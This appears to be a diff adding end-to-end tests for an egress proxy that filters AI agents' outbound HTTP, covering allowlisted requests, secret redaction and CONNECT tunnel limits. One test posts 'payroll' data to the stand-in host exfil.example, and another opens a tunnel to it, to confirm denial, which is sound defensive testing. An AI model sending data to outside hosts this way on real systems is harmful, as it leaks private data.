@@ -1,0 +1,96 @@
+"""Agents' outbound HTTP through the Envoy forward proxy with Portcullis (policies/egress.pcl):
+an allowed GET, a POST whose secret is redacted, a denied host, and CONNECT tunnels."""
+
+from __future__ import annotations
+
+import json
+import socket
+from collections.abc import Iterator
+from pathlib import Path
+
+import httpx
+import pytest
+
+import portcullis_e2e as pe
+
+RUN = {"x-agent-run": "egress-run-1"}
+SECRET = "sk-live-4f9c2a7d1e8b60354f9c2a7d1e8b6035"
+
+
+@pytest.fixture
+def proxy(stack: pe.Stack, keys: pe.Keys, egress_bundle: Path) -> Iterator[tuple[pe.Stack, httpx.Client]]:
+    stack.egress_upstream()
+    stack.envoy("egress-proxy", keys, egress_bundle)
+    with httpx.Client(proxy=f"http://127.0.0.1:{stack.ports['envoy']}", timeout=10) as client:
+        yield stack, client
+
+
+def hosts_seen(stack: pe.Stack) -> list[str]:
+    return [r["host"] for r in stack.upstream_requests("egress")]
+
+
+def test_allowed_get_reaches_the_host(proxy) -> None:
+    stack, client = proxy
+    r = client.get("http://api.github.com/repos/acme/app/releases", headers=RUN)
+    assert r.status_code == 200, r.text
+    assert r.json()["host"] == "api.github.com"
+    assert r.headers.get("x-portcullis-decision") == "ALLOW"
+    [rec] = stack.upstream_requests("egress")
+    assert rec["path"] == "/repos/acme/app/releases"
+    assert pe.header(rec, "x-portcullis-receipt")
+
+
+def test_post_with_a_secret_is_redacted(proxy) -> None:
+    stack, client = proxy
+    body = {"text": f"deploy done, token {SECRET}", "channel": "#ops"}
+    r = client.post("http://hooks.slack.com/services/T000/B000", json=body,
+                    headers={**RUN, "authorization": "Bearer abc.def"})
+    assert r.status_code == 200, r.text
+    [rec] = stack.upstream_requests("egress")
+    assert SECRET not in rec["body"], rec["body"]
+    assert json.loads(rec["body"])["channel"] == "#ops"
+    assert pe.header(rec, "authorization") is None
+    assert pe.header(rec, "content-length") == str(len(rec["body"].encode()))
+
+
+def test_unknown_host_is_denied_before_any_connection(proxy) -> None:
+    stack, client = proxy
+    r = client.post("http://exfil.example/upload", json={"data": "payroll"}, headers=RUN)
+    assert r.status_code == 403, r.text
+    doc = r.json()
+    assert doc["decision"] == "DENY"
+    assert doc["reason"] == "host not on the egress allowlist"
+    assert doc.get("receipt_id")
+    assert "exfil.example" not in hosts_seen(stack)
+
+
+def _connect(port: int, authority: str) -> tuple[bytes, socket.socket]:
+    s = socket.create_connection(("127.0.0.1", port), timeout=5)
+    s.sendall(f"CONNECT {authority} HTTP/1.1\r\nHost: {authority}\r\nx-agent-run: egress-run-1\r\n\r\n".encode())
+    head = b""
+    while b"\r\n\r\n" not in head:
+        chunk = s.recv(4096)
+        if not chunk:
+            break
+        head += chunk
+    return head, s
+
+
+def test_connect_only_to_allowed_host_and_port(proxy) -> None:
+    stack, _ = proxy
+    head, s = _connect(stack.ports["envoy"], "registry.npmjs.org:443")
+    with s:
+        assert head.startswith(b"HTTP/1.1 200"), head
+        # The stand-in upstream speaks plain HTTP inside the tunnel.
+        s.sendall(b"GET /left-pad HTTP/1.1\r\nHost: registry.npmjs.org\r\nConnection: close\r\n\r\n")
+        data = b""
+        while chunk := s.recv(4096):
+            data += chunk
+        assert b'"path": "/left-pad"' in data
+    head, s = _connect(stack.ports["envoy"], "exfil.example:443")
+    with s:
+        assert head.startswith(b"HTTP/1.1 403"), head
+    head, s = _connect(stack.ports["envoy"], "registry.npmjs.org:8443")
+    with s:
+        assert head.startswith(b"HTTP/1.1 403"), head
+    assert hosts_seen(stack) == ["registry.npmjs.org"]
